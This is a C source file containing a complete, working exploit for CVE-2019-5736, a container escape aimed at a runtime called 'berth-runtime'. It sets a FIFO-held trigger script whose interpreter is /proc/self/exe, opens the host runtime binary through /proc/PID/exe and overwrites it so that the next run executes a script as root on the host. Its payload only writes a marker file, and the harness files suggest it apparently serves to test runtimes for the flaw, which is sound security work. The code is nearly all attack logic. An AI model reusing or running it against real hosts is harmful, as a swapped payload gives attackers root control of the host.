// cve_2019_5736_attack.c — CVE-2019-5736 carried out from inside a
// container, as an attacker would: a static program, the container's own
// process, that overwrites the host's runtime binary through
// /proc/PID/exe of a process running it in the container.
//
//   attack HOLD TRIGGER MARKER
//
// 1. Plants TRIGGER, the script "#!/proc/self/exe --log=HOLD", and makes
//    HOLD a FIFO. When the administrator runs `berth-runtime exec CTR
//    TRIGGER`, the kernel runs the script's interpreter, /proc/self/exe,
//    in the exec'd process: whatever binary the runtime ran from. Its
//    --log=HOLD open blocks on the FIFO, which holds it (no race to win).
// 2. Finds that process in /proc, opens /proc/PID/exe, then releases it.
// 3. Once every process running that binary is gone (the write is
//    ETXTBSY until then), opens it for writing through the fd and writes
//    a shell script that creates MARKER: the host's next run of the
//    runtime runs it as root on the host.
//
// The outcome goes to stdout and to /verdict: "escaped: ..." when the
// binary was written, "refused: ..." when the write was refused,
// "no-target: ..." when no process ran the binary. The exit status is 0
// only when the attack succeeded.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

__attribute__((format(printf, 1, 2))) static void verdict(const char* fmt, ...) {
  char line[1024];
  va_list ap;
  va_start(ap, fmt);
  vsnprintf(line, sizeof line, fmt, ap);
  va_end(ap);
  printf("%s\n", line);
  fflush(stdout);
  int fd = open("/verdict.tmp", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd >= 0) {
    dprintf(fd, "%s\n", line);
    close(fd);
    rename("/verdict.tmp", "/verdict");
  }
}

static int write_file(const char* path, const char* text, mode_t mode) {
  char tmp[256];
  snprintf(tmp, sizeof tmp, "%s.tmp", path);
  int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
  if (fd < 0) return -1;
  ssize_t n = write(fd, text, strlen(text));
  close(fd);
  if (n != (ssize_t)strlen(text)) return -1;
  return rename(tmp, path);
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void pause_ms(int ms) {
  struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
  nanosleep(&ts, NULL);
}

// The pid whose argv[1] is `want` (the trigger's interpreter), or 0.
static pid_t find_held(const char* want) {
  DIR* d = opendir("/proc");
  if (!d) return 0;
  pid_t found = 0;
  struct dirent* e;
  while (!found && (e = readdir(d))) {
    if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
    char path[300], buf[4096];
    snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) continue;
    buf[n] = 0;
    size_t first = strlen(buf) + 1;
    if ((ssize_t)first < n && strcmp(buf + first, want) == 0) found = atoi(e->d_name);
  }
  closedir(d);
  return found;
}

// The held process has gone: exited, or a zombie (its cmdline reads empty).
static int gone(pid_t pid) {
  char path[64], buf[16];
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 1;
  ssize_t n = read(fd, buf, sizeof buf);
  close(fd);
  return n <= 0;
}

// Keeps HOLD open for reading until the held process has gone: found
// through its cmdline, it may not have reached its open of HOLD yet, and
// would wait there for a reader forever (and the administrator's exec
// with it).
static int release(pid_t pid, int rd, int status) {
  for (double end = now() + 60; !gone(pid) && now() < end;) pause_ms(5);
  if (rd >= 0) close(rd);
  return status;
}

int main(int argc, char** argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: %s HOLD TRIGGER MARKER\n", argv[0]);
    return 2;
  }
  const char *hold = argv[1], *trigger = argv[2], *marker = argv[3];
  char flag[256], script[512], payload[512];
  snprintf(flag, sizeof flag, "--log=%s", hold);
  snprintf(script, sizeof script, "#!/proc/self/exe %s\n", flag);
  snprintf(payload, sizeof payload, "#!/bin/sh\necho 'payload ran on the host' > '%s'\n", marker);
  unlink(hold);
  if (mkfifo(hold, 0600) < 0 || write_file(trigger, script, 0755) < 0) {
    verdict("setup-failed: %s: %s", trigger, strerror(errno));
    return 1;
  }
  write_file("/ready", "ready\n", 0644);

  // Until the administrator's exec has come and gone (/done), wait for it.
  pid_t pid = 0;
  double deadline = now() + 120;
  while (!(pid = find_held(flag))) {
    if (access("/done", F_OK) == 0 || now() > deadline) {
      verdict("no-target: no process ran the trigger's interpreter");
      return 1;
    }
    pause_ms(5);
  }
  char exe_path[64], seen[512] = "?";
  snprintf(exe_path, sizeof exe_path, "/proc/%d/exe", pid);
  int exe = open(exe_path, O_PATH | O_CLOEXEC);
  ssize_t n = readlink(exe_path, seen, sizeof seen - 1);
  if (n > 0) seen[n] = 0;
  int rd = open(hold, O_RDONLY | O_NONBLOCK | O_CLOEXEC);  // lets the held process go on
  if (exe < 0) {
    verdict("refused: open %s: %s", exe_path, strerror(errno));
    return release(pid, rd, 1);
  }
  printf("held pid %d, its exe is %s\n", pid, seen);

  char self_fd[64];
  snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", exe);
  int w = -1;
  for (deadline = now() + 120; w < 0; pause_ms(5)) {
    w = open(self_fd, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (w >= 0) break;
    if (errno != ETXTBSY || now() > deadline) {
      verdict("refused: open for writing (exe %s): %s", seen, strerror(errno));
      return release(pid, rd, 1);
    }
  }
  if (write(w, payload, strlen(payload)) != (ssize_t)strlen(payload)) {
    verdict("refused: write to %s: %s", seen, strerror(errno));
    return release(pid, rd, 1);
  }
  close(w);
  verdict("escaped: overwrote %s with the payload", seen);
  return release(pid, rd, 0);
}
